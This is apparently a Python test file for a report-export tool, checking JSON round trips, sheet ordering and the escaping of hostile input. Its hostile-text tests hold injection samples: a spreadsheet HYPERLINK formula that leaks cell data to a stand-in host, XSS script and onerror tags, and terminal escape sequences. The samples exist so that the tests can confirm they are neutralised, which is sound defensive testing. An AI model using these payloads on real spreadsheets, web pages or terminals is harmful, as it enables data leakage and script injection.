"""Exports: the JSON round trip through check and import, and sheets that are complete, ordered and escaped."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

from reportbot import explain
from reportbot.cli import main
from reportbot.export import (
    Subject,
    csv_cell,
    render,
    subject_from_store,
    to_csv,
    to_html,
    to_json,
    to_markdown,
)
from reportbot.flow.loader import load_flow
from reportbot.reportfile import parse_report, read_report_file
from reportbot.store import Store
from reportbot.wording import languages, wording, words_for
from reports import REPORTS_DIR, changed, load

HOSTILE = Path(__file__).parent / "data" / "store" / "hostile-fippa.json"
EN = {form: wording("en", form) for form in ("fippa-year-end", "cyfsa-part-x")}


pytestmark = pytest.mark.usefixtures("never_the_real_database")


def _subject(doc: dict, **kw) -> Subject:
    report = parse_report(doc)
    answers = {c: v for c, v in report.answers.items() if report.flow.by_id[c[0]].formula is None}
    acks = {(a["rule"], a.get("column")): a["reason"] for a in report.acknowledged}
    return Subject(report.flow, report.year, answers, acknowledged=acks, language=report.language, **kw)


def _hostile() -> Subject:
    return _subject(json.loads(HOSTILE.read_text(encoding="utf-8"), parse_float=Decimal),
                    organization='=HYPERLINK("x") <b>Org</b>')


def _fixture(name: str, **changes) -> Subject:
    return _subject(changed(load(name), changes))


def _cli(capsys, *args: str) -> tuple[int, str, str]:
    status = main(list(args))
    out, err = capsys.readouterr()
    return status, out, err


# --- json ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["fippa-full", "cyfsa-full", "fippa-zero", "fippa-corrections-only"])
def test_json_round_trips_through_check_and_import(tmp_path, capsys, name):
    db = str(tmp_path / "r.sqlite3")
    doc = changed(load(name), {})
    if name == "fippa-full":  # with a warning accepted, and money
        doc = changed(doc, {"9.4": {"personal": 13}})
        doc["acknowledged"] = [{"rule": "fippa-9.4-within-9.1", "column": "personal", "reason": "two re-filed"}]
        doc["language"] = "en"
    source = tmp_path / "source.json"
    source.write_text(json.dumps(doc, default=float), encoding="utf-8")
    status, out, _ = _cli(capsys, "--db", db, "import", str(source))
    assert status == 0 and "report 1" in out

    first = tmp_path / "first.json"
    assert _cli(capsys, "--db", db, "export", "1", "--format", "json", "-o", str(first))[0] == 0
    status, out, err = _cli(capsys, "--lang", "en", "check", str(first))
    assert status == 0, out + err
    assert "complete" in out

    status, out, _ = _cli(capsys, "--db", db, "import", str(first))
    assert status == 0 and "report 2" in out
    status, second, _ = _cli(capsys, "--db", db, "export", "2", "--format", "json")
    assert status == 0
    assert second == first.read_text(encoding="utf-8")

    exported = json.loads(second)
    assert exported["status"] == "draft" and exported["format"] == "reportbot/1"
    # the derived totals are in the file
    flow = load_flow(exported["report"])
    assert any(flow.by_id[b].formula is not None for b in exported["answers"])
    if name == "fippa-full":
        assert exported["acknowledged"] == doc["acknowledged"]
        with Store.open(db) as s:
            assert str(s.answers(2)[("9.2", "personal")]) == "900.00"


def test_json_carries_the_status_and_import_makes_a_draft(tmp_path, capsys):
    db = str(tmp_path / "r.sqlite3")
    with Store.open(db) as s:
        report = parse_report(load("cyfsa-full"))
        rid = s.import_report("cyfsa-part-x", 2025, {c: v for c, v in report.answers.items()
                                                     if report.flow.by_id[c[0]].formula is None})
        s.confirm(rid)
    status, out, _ = _cli(capsys, "--db", db, "export", "--format", "json")
    assert status == 0 and json.loads(out)["status"] == "confirmed"
    path = tmp_path / "confirmed.json"
    path.write_text(out, encoding="utf-8")
    assert read_report_file(path).status == "confirmed"
    _cli(capsys, "--db", db, "import", str(path))
    with Store.open(db) as s:
        assert s.get(2).status == "draft"


# --- the sheets: complete and in order ---------------------------------------------------------------


def test_markdown_has_every_section_and_box_in_questionnaire_order():
    subject = _fixture("fippa-full")
    words = EN["fippa-year-end"]
    sheet = to_markdown(subject, words)
    flow = subject.flow
    positions = [sheet.index(f"## Section {s.id}: {s.title}") for s in flow.flow.sections]
    assert positions == sorted(positions)
    rows = [m.group(1) for m in re.finditer(r"^\| (?:\*\*)?([0-9a-z._]+)(?:\*\*)? \|", sheet, re.M)]
    assert rows == [b.id for s in flow.flow.sections for b in s.boxes]
    assert "| Box | Label | Personal information | General records |" in sheet
    assert "| Box | Label | Value |" in sheet


def test_markdown_marks_totals_provisional_labels_and_columns_that_do_not_apply():
    sheet = to_markdown(_fixture("fippa-full"), EN["fippa-year-end"])
    assert "| **3.4** | **Total requests (3.1 + 3.2 + 3.3)** *(total: 3.1 + 3.2 + 3.3)* | **200** | **282** |" in sheet
    row = next(line for line in sheet.splitlines() if line.startswith("| 4.1 |"))
    number = re.search(r"\(provisional label\)\* \\\[(\d+)\\\]", row).group(1)
    section4 = sheet.split("## Section 4")[1].split("## Section 5")[0]
    assert f"\\[{number}\\] Provisional label:" in section4
    assert "Source of requests" in section4 and "ipc-forms-evidence.md" in section4
    row812 = next(line for line in sheet.splitlines() if line.startswith("| 8.12 |"))
    assert "does not apply" in row812
    assert "| 9.2 | Total amount collected for application fees (dollars) | $900.00 | $1,200.00 |" in sheet


def test_markdown_shows_skipped_boxes_with_the_reason():
    subject = _fixture("fippa-zero")
    words = EN["fippa-year-end"]
    sheet = to_markdown(subject, words)
    row = next(line for line in sheet.splitlines() if line.startswith("| 4.1 |"))
    assert row.endswith("| skipped (a) | skipped (a) |")
    reason = explain.route_reason(subject.flow, words, subject.evaluation.skipped_by[("4.1", "personal")])
    section4 = sheet.split("## Section 4")[1].split("## Section 5")[0]
    assert "(a) Skipped: " in section4
    assert reason.split(".")[0][:40] in section4.replace("\\", "")


def test_markdown_lists_accepted_warnings_with_reasons_and_what_is_still_open():
    subject = _fixture("fippa-full", **{"9.4": {"personal": 13}, "4.1": {"personal": 171}, "2.1": None})
    subject.acknowledged = {("fippa-9.4-within-9.1", "personal"): "two were re-filed"}
    sheet = to_markdown(subject, EN["fippa-year-end"])
    head, rest = sheet.split("## Warnings accepted")
    accepted = rest.split("## Section 1")[0]
    assert "9.4 = 13" in accepted and "Reason: two were re-filed" in accepted
    assert "4.9" in head and "error" in head.lower()  # 4.9 no longer equals 3.8
    assert "Not answered (1): 2.1" in head
    assert "1 boxes not answered, 1 errors, 0 warnings not yet accepted." in sheet


@pytest.mark.parametrize(
    "status, confirmed_at, expected",
    [
        ("draft", None, "Draft, not yet confirmed"),
        ("confirmed", "2025-03-02T15:04:00+00:00", "Confirmed on 2025-03-02"),
        ("draft", "2025-03-02T15:04:00+00:00", "changed since it was confirmed on 2025-03-02"),
    ],
)
def test_the_status_is_on_every_sheet(status, confirmed_at, expected):
    subject = _fixture("cyfsa-zero")
    subject.status, subject.confirmed_at = status, confirmed_at
    words = EN["cyfsa-part-x"]
    for fmt in ("md", "html"):
        assert expected in render(fmt, subject, words)


def test_html_is_standalone_and_prints_one_section_per_page():
    subject = _fixture("fippa-full")
    page = to_html(subject, EN["fippa-year-end"])
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert page.count('<section class="part"') == len(subject.flow.flow.sections)
    assert "break-before: page" in page and "page-break-before: always" in page
    assert "<link" not in page and "src=" not in page and "<script" not in page
    assert '<tr class="total"><td class="box">3.4</td>' in page
    assert "<th scope=\"col\">Personal information</th><th scope=\"col\">General records</th>" in page


def test_csv_has_one_row_per_cell_in_questionnaire_order():
    subject = _fixture("fippa-zero")
    rows = list(csv.reader(io.StringIO(to_csv(subject, EN["fippa-year-end"]))))
    assert rows[0] == ["box", "column", "label", "value"]
    flow = subject.flow
    assert [(r[0], r[1]) for r in rows[1:]] == [(c[0], c[1] or "") for c in flow.cells]
    by_cell = {(r[0], r[1]): r[3] for r in rows[1:]}
    assert by_cell[("1.3", "")] == "6.5"
    assert by_cell[("1.2", "")] == "Agency"
    assert by_cell[("3.4", "personal")] == "0"
    assert by_cell[("4.1", "personal")] == ""  # skipped
    assert ("8.12", "personal") not in by_cell


# --- hostile text ---------------------------------------------------------------------------------------


def test_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(to_csv(_hostile(), EN["fippa-year-end"]))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_box = {r[0]: r[3] for r in rows[1:] if r[1] == ""}
    assert by_box["1.1.institution"] == "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")"
    assert by_box["1.1.phone"] == "'+1 416 555 0100"
    assert by_box["1.1.email"].startswith("'@SUM")
    assert by_box["1.1.mailing_address"].startswith("'-2+3")


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("12", "12"), ("a=1", "a=1"), ("", ""),
])
def test_csv_cell(text, expected):
    assert csv_cell(text) == expected


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def test_html_shows_hostile_text_as_text():
    page = to_html(_hostile(), EN["fippa-year-end"])
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= {
        "html", "head", "meta", "title", "style", "body", "section", "h1", "h2", "dl", "dt", "dd", "p",
        "ul", "li", "br", "em", "table", "thead", "tbody", "tr", "th", "td", "span", "sup",
    }
    assert parser.attrs <= {"lang", "charset", "http-equiv", "content", "name", "class", "id", "scope"}
    text = "".join(parser.text)
    assert '<script>alert("owned")</script>' in text
    assert '"><img src=x onerror=alert(1)>' in text
    assert "</td></tr></table>" in text
    assert "=1+1 <i>checked</i>" in text  # the reason given for the accepted warning
    assert "<b>Org</b>" in text


def test_markdown_shows_hostile_text_as_text():
    sheet = to_markdown(_hostile(), EN["fippa-year-end"])
    assert re.findall(r"(?<!\\)<(?!br>)", sheet) == []  # every < the filer typed is escaped
    assert "\\<script\\>" in sheet
    row = next(line for line in sheet.splitlines() if line.startswith("| 1.1.mailing_address |"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 4  # the filer's pipes do not make new columns
    row = next(line for line in sheet.splitlines() if line.startswith("| 6a |"))
    assert "Line one<br>Line two" in row


def test_no_control_sequence_reaches_any_export(tmp_path):
    db = tmp_path / "r.sqlite3"
    with Store.open(db) as s:
        report = parse_report(load("fippa-full"))
        rid = s.import_report("fippa-year-end", 2005, {c: v for c, v in report.answers.items()
                                                        if report.flow.by_id[c[0]].formula is None})
        s.acknowledge(rid, "fippa-7.7-within-7.6", "personal", "fine")
    # as if written by an older version, or by hand: straight into the file
    raw = sqlite3.connect(db)
    raw.execute("UPDATE answers SET value = 'A\x1b[2JB\x1b]0;pwned\x07C\x9b31m' WHERE box = '6a'")
    raw.execute("UPDATE reports SET organization = 'Org\x1b[5m'")
    raw.execute("UPDATE acknowledgements SET reason = 'why\x1b[8m'")
    raw.commit()
    raw.close()
    with Store.open(db) as s:
        subject = subject_from_store(s, rid)
    for fmt in ("json", "csv", "md", "html"):
        out = render(fmt, subject, EN["fippa-year-end"])
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.replace("\r\n", "\n")), fmt
        assert "ABC" in out and "31m" not in out, fmt  # the 8-bit CSI goes with its parameters


# --- words --------------------------------------------------------------------------------------------------


def test_unknown_languages_fall_back_to_english():
    assert words_for("xx", "fippa-year-end").language == "en"
    assert words_for(None).language == "en"


@pytest.mark.skipif("fr" not in languages(), reason="no French dialogs")
def test_a_language_without_these_messages_yet_borrows_them_from_english():
    words = words_for("fr", "cyfsa-part-x")
    assert words.language == "fr"
    assert words.t("sheet.head.box")  # French if translated, English until then: never an error
    sheet = to_markdown(_fixture("cyfsa-full"), words)
    assert sheet.startswith("# ")


def test_labels_and_titles_come_from_the_report_language():
    en = EN["cyfsa-part-x"]
    report = en.report.model_copy(update={
        "title": "Rapport statistique annuel",
        "sections": {**en.report.sections, "3": en.report.sections["3"].model_copy(update={"title": "Demandes reçues"})},
        "boxes": {**en.report.boxes, "3.1": en.report.boxes["3.1"].model_copy(update={"label": "Demandes écrites"})},
    })
    words = type(en)(en.common, report)
    sheet = to_markdown(_fixture("cyfsa-full"), words)
    assert sheet.startswith("# Rapport statistique annuel")
    assert "## Section 3: Demandes reçues" in sheet
    assert "| 3.1 | Demandes écrites |" in sheet


def test_json_is_the_report_file(tmp_path):
    subject = _fixture("cyfsa-full")
    path = tmp_path / "r.json"
    path.write_text(to_json(subject), encoding="utf-8")
    back = read_report_file(path)
    assert back.answers == {**subject.answers, **subject.evaluation.derived()}


def test_fixture_reports_exist():
    assert (REPORTS_DIR / "fippa-full.json").is_file() and HOSTILE.is_file()
